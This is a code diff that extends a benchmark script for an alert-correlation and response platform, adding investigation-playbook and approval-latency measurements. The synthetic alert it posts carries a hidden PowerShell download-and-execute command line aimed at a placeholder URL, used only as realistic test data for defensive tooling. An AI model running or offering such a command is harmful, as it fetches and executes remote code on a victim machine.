@@ -57,7 +57,7 @@ async function waitCorrelated(db: DataSource, since: Date, expected: number, lab
 }
 
 async function baseline(stack: Stack, client: Client) {
-  say(`[1/5] bare Temporal baseline: ${N} workflows with 1 no-op activity each, ${CONCURRENCY} in flight`);
+  say(`[1/7] bare Temporal baseline: ${N} workflows with 1 no-op activity each, ${CONCURRENCY} in flight`);
   const started = Date.now();
   let done = 0;
   await inParallel(Array.from({ length: N }, (_, i) => i), CONCURRENCY, async (i) => {
@@ -74,7 +74,7 @@ async function post(stack: Stack, headers: Record<string, string>, body: unknown
 }
 
 async function sustained(stack: Stack, db: DataSource, headers: Record<string, string>) {
-  say(`[2/5] Quell sustained throughput: ${N} alerts through the HTTP API, ${CONCURRENCY} in flight`);
+  say(`[2/7] Quell sustained throughput: ${N} alerts through the HTTP API, ${CONCURRENCY} in flight`);
   const since = new Date();
   const started = Date.now();
   await inParallel(Array.from({ length: N }, (_, i) => i), CONCURRENCY, (i) => post(stack, headers, makeAlert(i)));
@@ -85,7 +85,7 @@ async function sustained(stack: Stack, db: DataSource, headers: Record<string, s
 async function latency(stack: Stack, db: DataSource, headers: Record<string, string>, rate: number) {
   const seconds = Number(process.env.BENCH_LATENCY_SECONDS ?? 20);
   const total = Math.max(50, Math.round(rate * seconds));
-  say(`[3/5] latency at half load: ${rate.toFixed(0)} alerts/s for ${seconds}s (${total} alerts), accept → correlation committed`);
+  say(`[3/7] latency at half load: ${rate.toFixed(0)} alerts/s for ${seconds}s (${total} alerts), accept → correlation committed`);
   const since = new Date();
   const started = Date.now();
   const inflight: Promise<void>[] = [];
@@ -108,7 +108,7 @@ async function latency(stack: Stack, db: DataSource, headers: Record<string, str
 async function acceptCeiling(stack: Stack, db: DataSource, headers: Record<string, string>) {
   const batches = Number(process.env.BENCH_BATCHES ?? 40);
   const size = 100;
-  say(`[4/5] accept-only ceiling: ${batches} batches of ${size} alerts, 4 in flight`);
+  say(`[4/7] accept-only ceiling: ${batches} batches of ${size} alerts, 4 in flight`);
   const since = new Date();
   const started = Date.now();
   await inParallel(Array.from({ length: batches }, (_, b) => b), 4, (b) =>
@@ -132,7 +132,7 @@ async function correlationScaling(db: DataSource, stack: Stack) {
     say(`  ${label}: ${ms.toFixed(2)} ms per alert`);
     return ms;
   };
-  say('[5/5] correlation time per alert with an empty store vs a large one');
+  say('[5/7] correlation time per alert with an empty store vs a large one');
   await db.query('TRUNCATE alert_keys, incident_keys, incident_activity, alerts, incidents CASCADE');
   const empty = await measure('empty store', 0);
   say(`  storing ${STORED} alerts with their keys and incidents…`);
@@ -162,9 +162,131 @@ async function correlationScaling(db: DataSource, stack: Stack) {
   return { emptyMsPerAlert: empty, largeMsPerAlert: large, stored: STORED, ratio: large / empty };
 }
 
+/** Activities a finished workflow ran, from its history. */
+async function activityCount(client: Client, workflowId: string): Promise<number> {
+  const history = await client.workflow.getHandle(workflowId).fetchHistory();
+  return (history.events ?? []).filter((e) => e.activityTaskScheduledEventAttributes).length;
+}
+
+async function investigations(stack: Stack, db: DataSource, client: Client, headers: Record<string, string>) {
+  const n = Number(process.env.BENCH_INVESTIGATIONS ?? 500);
+  say(`[6/7] investigations: ${n} alerts, each its own incident, through a six-step playbook`);
+  await db.query(
+    `INSERT INTO lab_devices (device_id, hostname, os, device_group, risk, isolated, app_restricted, logged_on_users, ips, last_seen_at)
+     SELECT 'bench-dev-' || g, 'bench-inv-' || g, 'Windows 11', 'Default', 'low', false, false, '{}', '{}', now() FROM generate_series(0, $1) g
+     ON CONFLICT DO NOTHING`,
+    [n],
+  );
+  const alert = (i: number) => ({
+    externalId: `bench-inv-${run}-${i}`,
+    source: 'endpoint',
+    type: 'bench_typical',
+    title: `Bench investigation ${i}`,
+    severity: 'medium',
+    entities: [
+      { type: 'device', hostname: `bench-inv-${i}` },
+      { type: 'user', upn: `bench-inv-${run}-${i}@bench.example` },
+      { type: 'process', commandLine: 'powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://x\')"' },
+    ],
+  });
+  // One warm-up investigation also tells how many activities the path runs.
+  await post(stack, headers, alert(-1));
+  const [warm] = await waitInvestigations(db, 1, 'warm-up', new Date(0));
+  const invActivities = await activityCount(client, warm.workflowId);
+  const alertActivities = 2;
+  const perAlert = invActivities + alertActivities;
+
+  const since = new Date();
+  const started = Date.now();
+  await inParallel(Array.from({ length: n }, (_, i) => i), CONCURRENCY, (i) => post(stack, headers, alert(i)));
+  const rows = await waitInvestigations(db, n, 'investigations', since);
+  const quellSeconds = (Date.now() - started) / 1000;
+  const durations = rows.map((r) => r.ms);
+
+  say(`  bare baseline: ${n} workflows of ${perAlert} no-op activities each`);
+  const baseStarted = Date.now();
+  await inParallel(Array.from({ length: n }, (_, i) => i), CONCURRENCY, async (i) => {
+    await client.workflow.execute('benchBaselineWorkflow', { workflowId: `bench-${run}-inv-base-${i}`, taskQueue: stack.config.temporal.taskQueue, args: [perAlert] });
+  });
+  const baseSeconds = (Date.now() - baseStarted) / 1000;
+  return {
+    investigations: n,
+    activitiesPerAlert: perAlert,
+    perSec: n / quellSeconds,
+    baselinePerSec: n / baseSeconds,
+    ratio: baseSeconds / quellSeconds,
+    durationMs: { p50: pct(durations, 50), p95: pct(durations, 95), p99: pct(durations, 99) },
+  };
+}
+
+async function waitInvestigations(db: DataSource, expected: number, label: string, since: Date): Promise<{ workflowId: string; ms: number }[]> {
+  for (;;) {
+    const rows: { workflowId: string; ms: number }[] = await db.query(
+      `SELECT workflow_id AS "workflowId", extract(epoch FROM ended_at - started_at) * 1000 AS ms FROM investigations
+       WHERE started_at >= $1 AND ended_at IS NOT NULL ORDER BY started_at`,
+      [since],
+    );
+    process.stderr.write(`\r  ${label}: ${rows.length}/${expected} finished`);
+    if (rows.length >= expected) {
+      process.stderr.write('\n');
+      return rows.map((r) => ({ ...r, ms: Number(r.ms) }));
+    }
+    await new Promise((r) => setTimeout(r, 250));
+  }
+}
+
+/** Approval round trip (API call → connector effect) with many investigations' actions waiting. */
+async function approvals(stack: Stack, db: DataSource) {
+  const levels = (process.env.BENCH_WAITING ?? '1000,10000').split(',').map(Number);
+  const sample = Number(process.env.BENCH_APPROVALS ?? 200);
+  const admin = { Authorization: `Bearer ${await stack.key('admin')}`, 'Content-Type': 'application/json' };
+  const approver = { Authorization: `Bearer ${await stack.key('approver')}`, 'Content-Type': 'application/json' };
+  await fetch(`${stack.baseUrl}/api/v1/automation`, { method: 'PUT', headers: admin, body: JSON.stringify({ defaultLevel: 'semi_all' }) });
+  const max = Math.max(...levels);
+  await db.query(
+    `INSERT INTO lab_devices (device_id, hostname, os, device_group, risk, isolated, app_restricted, logged_on_users, ips, last_seen_at)
+     SELECT 'bench-wait-' || g, 'bench-wait-' || g, 'Windows 11', 'Default', 'low', false, false, '{}', '{}', now() FROM generate_series(0, $1) g
+     ON CONFLICT DO NOTHING`,
+    [max + levels.length * sample],
+  );
+  global.gc?.();
+  const rssBefore = process.memoryUsage().rss;
+  const results: Record<string, unknown>[] = [];
+  let created = 0;
+  let cursor = 0;
+  for (const waiting of levels) {
+    say(`[7/7] approvals with ${waiting} actions waiting: creating the backlog…`);
+    const ids: string[] = [];
+    await inParallel(Array.from({ length: waiting - created + sample }, (_, i) => i), CONCURRENCY, async () => {
+      const n = cursor++;
+      const res = await fetch(`${stack.baseUrl}/api/v1/actions`, { method: 'POST', headers: admin, body: JSON.stringify({ type: 'isolate_device', target: { type: 'device', hostname: `bench-wait-${n}` }, reason: 'bench' }) });
+      if (res.status !== 201) throw new Error(`manual action answered ${res.status}: ${await res.text()}`);
+      ids.push(((await res.json()) as { id: string }).id);
+      if (ids.length % 500 === 0) process.stderr.write(`\r  ${ids.length} created`);
+    });
+    process.stderr.write('\n');
+    created = waiting;
+    const toApprove = ids.slice(0, sample);
+    const times: number[] = [];
+    await inParallel(toApprove, 4, async (id) => {
+      const t = performance.now();
+      const res = await fetch(`${stack.baseUrl}/api/v1/actions/${id}/approve`, { method: 'POST', headers: approver, body: '{}' });
+      const body = (await res.json()) as { status: string };
+      if (res.status !== 200 || body.status !== 'succeeded') throw new Error(`approve answered ${res.status} ${JSON.stringify(body)}`);
+      times.push(performance.now() - t);
+    });
+    const [{ n: pending }] = await db.query(`SELECT count(*)::int AS n FROM actions WHERE status = 'pending'`);
+    global.gc?.();
+    const rss = process.memoryUsage().rss;
+    results.push({ waiting: pending, approvals: sample, p50: pct(times, 50), p99: pct(times, 99), rssGrowthMiB: (rss - rssBefore) / 1024 / 1024 });
+    say(`  ${pending} waiting: approve → effect p50 ${pct(times, 50).toFixed(1)} ms, p99 ${pct(times, 99).toFixed(1)} ms; process memory +${((rss - rssBefore) / 1048576).toFixed(0)} MiB`);
+  }
+  return results;
+}
+
 async function main() {
   const log = createLogger('warn');
-  const stack = await startStack(log, { purpose: 'bench' });
+  const stack = await startStack(log, { purpose: 'bench', env: { PLAYBOOKS_DIR: process.env.BENCH_PLAYBOOKS_DIR ?? 'scripts/bench-playbooks' } });
   try {
     const db = stack.app.get(DataSource);
     const client = stack.app.get(Client);
@@ -176,6 +298,8 @@ async function main() {
     const lat = await latency(stack, db, headers, quell.alertsPerSec / 2);
     const accept = await acceptCeiling(stack, db, headers);
     const scaling = await correlationScaling(db, stack);
+    const inv = await investigations(stack, db, client, headers);
+    const approval = await approvals(stack, db);
     const result = {
       when: new Date().toISOString(),
       machine: { cpus: (await import('node:os')).cpus().length, node: process.version },
@@ -189,6 +313,8 @@ async function main() {
       latencyMsAtHalfLoad: lat,
       acceptCeiling: accept,
       correlationScaling: scaling,
+      investigations: inv,
+      approvals: approval,
     };
     const f = (n: number) => n.toFixed(1);
     process.stdout.write(
@@ -197,7 +323,10 @@ async function main() {
         `  Quell alert → incident (HTTP, 30% shared)   ${f(quell.alertsPerSec)} /s   ratio ${result.throughputRatio.toFixed(2)} (target ≥ 0.8)\n` +
         `  latency at ${f(lat.rate)}/s: p50 ${f(lat.p50)} ms  p95 ${f(lat.p95)} ms  p99 ${f(lat.p99)} ms (target p99 ≤ 250)\n` +
         `  accept-only ceiling (batches of 100)        ${f(accept.acceptedPerSec)} alerts/s\n` +
-        `  correlation per alert: empty ${scaling.emptyMsPerAlert.toFixed(2)} ms, ${scaling.stored} stored ${scaling.largeMsPerAlert.toFixed(2)} ms  ratio ${scaling.ratio.toFixed(2)} (target ≤ 1.5)\n\n`,
+        `  correlation per alert: empty ${scaling.emptyMsPerAlert.toFixed(2)} ms, ${scaling.stored} stored ${scaling.largeMsPerAlert.toFixed(2)} ms  ratio ${scaling.ratio.toFixed(2)} (target ≤ 1.5)\n` +
+        `  investigations (6-step playbook)            ${f(inv.perSec)} /s vs bare ${f(inv.baselinePerSec)} /s (${inv.activitiesPerAlert} activities)  ratio ${inv.ratio.toFixed(2)} (target ≥ 0.8); duration p50 ${f(inv.durationMs.p50)} ms p99 ${f(inv.durationMs.p99)} ms\n` +
+        approval.map((a) => `  approval round trip with ${a.waiting} waiting: p50 ${f(a.p50 as number)} ms  p99 ${f(a.p99 as number)} ms; memory +${f(a.rssGrowthMiB as number)} MiB\n`).join('') +
+        '\n',
     );
     const out = process.env.BENCH_OUT ?? 'bench-results.json';
     writeFileSync(out, `${JSON.stringify(result, null, 2)}\n`);
